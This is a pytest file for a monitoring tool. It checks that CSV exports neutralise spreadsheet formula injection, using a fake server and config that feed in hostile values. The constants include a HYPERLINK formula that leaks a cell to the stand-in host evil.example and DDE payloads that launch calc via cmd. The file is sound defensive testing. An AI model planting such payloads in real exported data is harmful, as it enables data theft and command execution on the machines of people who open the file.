"""No CSV the monitor writes holds a cell a spreadsheet would run as a formula.

`csv_cell` is checked against a table of cells; then a purpose-built server answers with a request id
`=HYPERLINK(...)` and a served model `@SUM(...)`, the config names a model `+cmd...`, an incident is
acknowledged `--by` and resolved with a `--note` that start like formulas, and every CSV export
(the API's series, points, incidents and compare tables, on SQLite and PostgreSQL, and `probe
--format csv`) is read back: each such cell starts with `'`, and numbers are left as they are.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import yaml
from aiohttp import web
from prometheus_client import CollectorRegistry

from monitor.csvsafe import FORMULA_STARTS, csv_cell, read_csv_cell
from monitor.detect.replay import SampleRow, read_samples_csv, write_samples_csv
from monitor.metrics.server import start_metrics_server
from monitor.web.api import to_csv, web_routes
from tests.conftest import ROOT, run_cli
from tests.support.alert_fixtures import store_incident
from tests.support.ports import free_port
from tests.support.store_fixtures import Backend
from tests.support.threaded_server import ThreadedServer

pytest_plugins = ("tests.support.store_fixtures",)

REQUEST_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
SERVED_MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
MODEL = "+cmd|' /C calc'!A0"
BY = "-2+3+cmd|' /C calc'!A0"
NOTE = "=1+1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1+2", "'-1+2"),
        ("-", "'-"),
        # Numbers, as values or as text that is only a number, are read as numbers: left alone.
        (-8.5, -8.5),
        (-3, -3),
        ("-8.5", "-8.5"),
        ("+1e-3", "+1e-3"),
        ("-.5", "-.5"),
        (True, True),
        ("", ""),
        ("plain text = fine", "plain text = fine"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote_and_a_number_does_not(value: Any, expected: Any) -> None:
    assert csv_cell(value) == expected
    if isinstance(value, str) and not value.startswith("'"):  # a quote before a formula reads as ours
        assert read_csv_cell(csv_cell(value)) == value


def test_the_api_csv_quotes_formula_cells_and_keeps_numbers() -> None:
    text = to_csv([{"request_id": REQUEST_ID, "delta_ms": -8.5, "model": SERVED_MODEL, "n": -2}])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {"request_id": "'" + REQUEST_ID, "delta_ms": "-8.5", "model": "'" + SERVED_MODEL, "n": "-2"}


def test_the_replay_export_quotes_a_series_and_reads_it_back_as_it_was() -> None:
    at = datetime(2026, 3, 1, tzinfo=UTC)
    out = io.StringIO()
    write_samples_csv([SampleRow(at, "-x/short/lab", 120.5, None, "r1")], out)
    assert "'-x/short/lab" in out.getvalue()
    assert list(read_samples_csv(io.StringIO(out.getvalue()))) == ["-x/short/lab"]


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting like a formula and not a number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and csv_cell(cell) != cell
    ]


class InjectingServer(ThreadedServer):
    async def _handle(self, request: web.Request) -> web.StreamResponse:
        await request.read()
        chunks = [
            {"model": SERVED_MODEL, "choices": [{"index": 0, "delta": {"content": word}, "finish_reason": None}]}
            for word in ("hello", " there")
        ]
        body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
        return web.Response(body=body.encode(), content_type="text/event-stream", headers={"x-request-id": REQUEST_ID})


@pytest.fixture(scope="module")
def injecting() -> Iterator[InjectingServer]:
    with InjectingServer() as server:
        yield server


def test_probe_csv_quotes_the_servers_formula_cells(injecting: InjectingServer) -> None:
    url = injecting.url("/v1")
    result = run_cli("probe", "--url", url, "--model", "m", "--rounds", "2", "--warmup", "0", "--format", "csv")
    assert result.code == 0, result
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 2, result
    assert {(row["request_id"], row["served_model"]) for row in rows} == {("'" + REQUEST_ID, "'" + SERVED_MODEL)}
    assert all(float(row["ttft_ms"]) > 0 for row in rows)  # numbers stay numbers
    assert _formula_cells(result.stdout) == [], result.stdout


def _config(tmp_path: Path, port: int, database_url: str) -> Path:
    data = {
        "location": "lab",
        "database": {"url": database_url, "state_dir": str(tmp_path / "state"), "connect_retry_s": 5},
        "providers": {"hostile": {"base_url": f"http://127.0.0.1:{port}/v1", "api": "openai-chat"}},
        "targets": {"inj": {"provider": "hostile", "model": MODEL}},
        "prompts": {"short": {"tokens": 128}},
        "jobs": [
            {"name": "inj", "schedule": "0 0 1 1 *", "targets": ["inj"], "prompts": ["short"], "rounds": 3},
        ],
        "alerts": {"receivers": {"console": {"type": "log"}}},
    }
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    return path


def _cli(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "TTFT_CONFIG"}
    done = subprocess.run(
        [sys.executable, "-m", "monitor", *args, "--config", str(config)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done
    return done


async def _ready() -> tuple[bool, str]:
    return True, "ready"


@pytest.mark.realtime
async def test_every_api_csv_export_quotes_formula_cells(
    tmp_path: Path, injecting: InjectingServer, backend: Backend
) -> None:
    config = _config(tmp_path, injecting.port, backend.url)
    once = run_cli("once", "--config", str(config), timeout=60)
    assert once.code == 0, once
    engine = backend.engine()
    try:
        incident = await store_incident(engine, target="inj", opened_at=datetime.now(UTC) - timedelta(minutes=5))
        _cli(config, "incidents", "ack", str(incident)[:8], "--by", BY)
        _cli(config, "incidents", "resolve", str(incident)[:8], "--note", NOTE)
        port = free_port()
        runner = await start_metrics_server(CollectorRegistry(), _ready, f"127.0.0.1:{port}", routes=web_routes(engine))
        api = f"http://127.0.0.1:{port}/api/v1"
        exports: dict[str, str] = {}
        try:
            async with aiohttp.ClientSession() as http:

                async def get(path: str) -> str:
                    async with http.get(api + path) as response:
                        text = await response.text()
                        assert response.status == 200, (path, text)
                        return text

                series = json.loads(await get("/series"))["series"]
                series_id = next(item["id"] for item in series if item["target"] == "inj")
                exports["series"] = await get("/series?format=csv")
                exports["points"] = await get(f"/series/{series_id}/points?since=1d&format=csv")
                exports["incidents"] = await get("/incidents?since=1d&format=csv")
                for table in ("cells", "pairs", "slopes"):
                    exports[table] = await get(f"/compare?since=1d&format=csv&table={table}")
        finally:
            await runner.cleanup()
    finally:
        await engine.dispose()
    for name, text in exports.items():
        assert _formula_cells(text) == [], (name, text)
    assert "'" + MODEL in exports["series"] and "'" + MODEL in exports["cells"], exports
    assert "'" + REQUEST_ID in {cell for row in csv.reader(io.StringIO(exports["points"])) for cell in row}
    assert "'" + BY in exports["incidents"] and "'" + NOTE in exports["incidents"], exports["incidents"]
